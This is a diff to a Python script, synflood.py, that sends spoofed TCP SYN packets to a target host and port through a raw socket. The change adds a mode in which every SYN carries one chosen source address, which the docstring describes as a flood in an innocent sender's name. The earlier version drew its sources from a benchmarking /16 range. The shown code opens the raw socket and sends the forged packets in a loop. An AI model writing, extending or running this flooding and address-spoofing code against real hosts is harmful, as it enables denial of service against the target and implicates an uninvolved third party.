@@ -2,11 +2,13 @@
 # SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
 """synflood.py - spoofed TCP SYNs from many source addresses, bounded.
 
-Usage: synflood.py DST PORT COUNT SRC_PREFIX16
-Sends COUNT SYNs to DST:PORT from SRC_PREFIX16.x.y (e.g. 198.18 for the
-RFC 2544 benchmarking range), each from a different address, through a raw
-socket.  No handshake can complete: the answers go to addresses nobody
-holds.  Prints the number sent.
+Usage: synflood.py DST PORT COUNT SRC
+Sends COUNT SYNs to DST:PORT through a raw socket.  SRC is either a /16
+given as two octets (e.g. 198.18 for the RFC 2544 benchmarking range):
+each SYN then comes from a different address in it; or one address: every
+SYN claims to come from it (a flood in an innocent sender's name).  No
+handshake can complete: nobody who holds the address asked for them.
+Prints the number sent.
 """
 import socket
 import struct
@@ -38,7 +40,7 @@ def main():
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
     for i in range(count):
-        src = f"{prefix}.{(i >> 8) & 255}.{i & 255}"
+        src = prefix if prefix.count(".") == 3 else f"{prefix}.{(i >> 8) & 255}.{i & 255}"
         s.sendto(syn(src, dst, 1024 + i % 60000, port, i * 7919), (dst, 0))
     print(count)
 
